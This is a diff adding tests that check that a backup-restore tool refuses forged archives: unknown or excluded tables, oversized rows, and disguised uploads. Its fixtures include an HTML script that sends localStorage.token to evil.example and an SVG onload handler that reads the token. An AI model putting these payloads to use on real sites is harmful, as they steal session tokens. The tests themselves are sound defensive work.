@@ -1,5 +1,6 @@
 import assert from 'node:assert/strict';
 import { spawnSync } from 'node:child_process';
+import { createHash } from 'node:crypto';
 import { once } from 'node:events';
 import { existsSync } from 'node:fs';
 import { mkdir, mkdtemp, readdir, readFile, rm, truncate, writeFile } from 'node:fs/promises';
@@ -409,6 +410,104 @@ describe('damaged archives', () => {
     assert.equal(run.status, 1, `${run.stdout}\n${run.stderr}`);
     assert.equal(run.stderr, 'The archive was refused, nothing was changed: The archive is truncated: its compressed data ends early (an interrupted copy or download?)\n');
     assert.equal(existsSync(path.join(varDir, 'data')), false);
+  });
+
+  /** The good archive with entries changed, added or removed, and the manifest's checksums recomputed (as an attacker would). */
+  async function forged(name: string, change: (entries: Map<string, Buffer>, manifest: Manifest) => void) {
+    const entries = await entriesOf(good);
+    const manifest = JSON.parse(entries.get('manifest.json')!.toString()) as Manifest;
+    entries.delete('manifest.json');
+    change(entries, manifest);
+    manifest.entries = [...entries].map(([entry, data]) => ({ name: entry, size: data.length, sha256: createHash('sha256').update(data).digest('hex') }));
+    const file = path.join(work, name);
+    await packArchive(file, new Map([['manifest.json', Buffer.from(JSON.stringify(manifest))], ...entries]));
+    return file;
+  }
+
+  /** `npm run restore -- --verify`: its exit code and what it printed. */
+  function verifyCommand(file: string) {
+    const { NODE_TEST_CONTEXT: _, ...env } = process.env;
+    return spawnSync(process.execPath, [CLI, 'restore', '--verify', file], { env: { ...env, VAR_DIR: os.tmpdir(), DATABASE_URL: '' }, encoding: 'utf8' });
+  }
+
+  async function refusedBeforeWriting(file: string, message: string) {
+    const verify = verifyCommand(file);
+    assert.equal(verify.status, 1, `--verify accepted it: ${verify.stdout}`);
+    assert.equal(verify.stderr, `The archive was refused, nothing was changed: ${message}\n`);
+    const varDir = await tmp();
+    if (TEST_DB === 'mysql') await emptyMysql();
+    await assert.rejects(runRestore(targetConfig(varDir), file), (error: Error) => {
+      assert.ok(error instanceof ArchiveError, String(error));
+      assert.equal(error.message, message);
+      return true;
+    });
+    await targetUntouched(varDir);
+  }
+
+  it('refuses a table the manifest lists in its entries but not as a table (data/evil.jsonl), in --verify too', async () => {
+    const file = await forged('evil-table.tar.gz', (entries) => entries.set('data/evil.jsonl', Buffer.from('{"id":1}\n')));
+    await refusedBeforeWriting(file, 'The archive holds the table evil, which this version does not know: update the product first');
+  });
+
+  it('refuses a table that backups leave out (sessions), listed as a table and all', async () => {
+    const file = await forged('sessions.tar.gz', (entries, manifest) => {
+      entries.set('data/admin_sessions.jsonl', Buffer.from('{"id":"x"}\n'));
+      manifest.tables.push({ name: 'admin_sessions', file: 'data/admin_sessions.jsonl', rows: 1, columns: ['id'] });
+    });
+    await refusedBeforeWriting(file, 'The archive holds the table admin_sessions, which backups leave out: it was not made by this product');
+  });
+
+  it("refuses rows beyond the API's own limits (a book description of 60 MB), in --verify too", async () => {
+    const file = await forged('huge.tar.gz', (entries) => {
+      const rows = entries.get('data/books.jsonl')!.toString().trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
+      rows[2].description = 'x'.repeat(60 * 1024 * 1024);
+      entries.set('data/books.jsonl', Buffer.from(rows.map((r) => JSON.stringify(r)).join('\n') + '\n'));
+    });
+    await refusedBeforeWriting(file, "data/books.jsonl, line 3, holds more than the API accepts (description: Must be at most 20000 characters)");
+  });
+
+  it("refuses a revision whose snapshot is beyond its kind's limits", async () => {
+    const file = await forged('huge-revision.tar.gz', (entries) => {
+      const rows = entries.get('data/content_revisions.jsonl')!.toString().trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
+      (rows[0].snapshot as Record<string, unknown>).awards = Array.from({ length: 201 }, () => 'prize');
+      entries.set('data/content_revisions.jsonl', Buffer.from(rows.map((r) => JSON.stringify(r)).join('\n') + '\n'));
+    });
+    await refusedBeforeWriting(file, 'data/content_revisions.jsonl, line 1, holds more than the API accepts (snapshot.awards: Must have at most 200 entries)');
+  });
+
+  it('refuses uploads the upload rules refuse (a page, an SVG, HTML named .jpg, an unknown folder, a name the server does not make) before writing anything', async () => {
+    const png = await sharp({ create: { width: 4, height: 3, channels: 3, background: '#000' } }).png().toBuffer();
+    const html = Buffer.from('<!doctype html><script>fetch("https://evil.example/?" + localStorage.token)</script>');
+    const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(localStorage.token)"/>');
+    const cases: [string, Buffer, string][] = [
+      ['uploads/general/evil.html', html, 'uploads/general/evil.html is not a file the API stores (uploads are images or PDFs under a known folder, with names the server makes)'],
+      ['uploads/general/evil.svg', svg, 'uploads/general/evil.svg is not a file the API stores (uploads are images or PDFs under a known folder, with names the server makes)'],
+      ['uploads/general/evil.jpg', html, 'uploads/general/evil.jpg does not hold what its name says (its bytes are not an image or PDF)'],
+      ['uploads/general/evil.pdf', png, 'uploads/general/evil.pdf does not hold what its name says (its bytes are image/png)'],
+      ['uploads/site/evil.png', png, 'uploads/site/evil.png is not a file the API stores (uploads are images or PDFs under a known folder, with names the server makes)'],
+      ['uploads/general/Evil Name.png', png, 'uploads/general/Evil Name.png is not a file the API stores (uploads are images or PDFs under a known folder, with names the server makes)'],
+    ];
+    for (const [name, data, message] of cases) {
+      const file = await forged(`upload-${cases.findIndex((c) => c[0] === name)}.tar.gz`, (entries) => entries.set(name, data));
+      await refusedBeforeWriting(file, message);
+    }
+  });
+
+  it('a restore that fails while loading (two rows with one id) leaves no table and no file behind', async () => {
+    const png = await sharp({ create: { width: 4, height: 3, channels: 3, background: '#000' } }).png().toBuffer();
+    const file = await forged('duplicate.tar.gz', (entries, manifest) => {
+      const lines = entries.get('data/books.jsonl')!.toString().trim().split('\n');
+      entries.set('data/books.jsonl', Buffer.from([...lines, lines[0]].join('\n') + '\n'));
+      manifest.tables.find((t) => t.name === 'books')!.rows++;
+      entries.set('uploads/general/mf3k2a-0123456789abcdef-4x3.png', png);
+    });
+    assert.equal(verifyCommand(file).status, 0, 'the archive itself is well formed');
+    const varDir = await tmp();
+    if (TEST_DB === 'mysql') await emptyMysql();
+    await assert.rejects(runRestore(targetConfig(varDir), file), /UNIQUE|Duplicate/i);
+    if (TEST_DB === 'mysql') assert.deepEqual(await mysqlTables(), []);
+    else assert.deepEqual(await readdir(path.join(varDir, 'data')).catch(() => []), [], 'no database file is left');
+    assert.deepEqual(await readdir(path.join(varDir, 'uploads', 'general')).catch(() => []), [], 'no upload is left');
   });
 
   it('a gzip of something else is not a backup', async () => {
